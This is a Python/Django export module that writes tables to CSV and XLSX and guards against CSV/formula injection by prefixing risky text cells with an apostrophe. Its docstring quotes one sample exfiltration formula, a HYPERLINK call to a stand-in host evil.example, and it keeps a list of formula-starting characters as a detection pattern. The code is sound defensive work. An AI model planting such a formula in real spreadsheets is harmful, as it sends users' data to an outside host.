"""The one export writer: tables as CSV or XLSX, with every text cell made harmless.

What people type (a log note, an activity's name) ends up in a spreadsheet that someone opens in
Excel or LibreOffice. A text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would
be read there as a formula (`=HYPERLINK("http://evil.example/?"&A1, "klicka")` sends the sheet's
contents away). Following OWASP's guidance on CSV injection, such a cell is written with a leading
apostrophe, which the spreadsheet shows as text. Numbers stay numbers, negative ones too.
"""

import csv
import io
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse

from .http import file_response
from .numbers import csv_cell

Cell = str | int | float | Decimal | date | datetime | None

#: What a spreadsheet takes as the start of a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Table:
    """One sheet of an export: a title (the sheet's name in XLSX), a header row and rows."""

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Cell]]


def safe_cell(value: Cell) -> Cell:
    """The value as it may go into a spreadsheet: text that would start a formula gets a leading
    apostrophe; numbers, dates and empty cells are left as they are."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal | date | datetime) or value is None:
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _safe_rows(table: Table) -> list[list[Cell]]:
    return [[safe_cell(c) for c in table.header]] + [[safe_cell(c) for c in row] for row in table.rows]


def csv_response(filename: str, tables: Sequence[Table]) -> HttpResponse:
    """The tables one after another in one CSV, with an empty row between them: semicolons and
    decimal commas, as Swedish Excel expects (samverkan.numbers.csv_cell), and UTF-8 with a
    byte-order mark. The measurements import (lagesbild.imports) reads the same format."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for i, table in enumerate(tables):
        if i:
            writer.writerow([])
        writer.writerows([csv_cell(c) for c in row] for row in _safe_rows(table))
    # A byte-order mark so that Excel opens the file as UTF-8 with å, ä and ö intact.
    return file_response("\ufeff" + buffer.getvalue(), f"{filename}.csv", "text/csv; charset=utf-8")


def xlsx_response(filename: str, tables: Sequence[Table]) -> HttpResponse:
    """One sheet per table in an Excel workbook; text cells are always stored as text."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)  # type: ignore[arg-type]
    for table in tables:
        sheet = workbook.create_sheet(table.title[:31])
        for row in _safe_rows(table):
            sheet.append(row)
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    # openpyxl would otherwise take any text starting with "=" for a formula.
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return file_response(buffer.getvalue(), f"{filename}.xlsx", XLSX_TYPE)
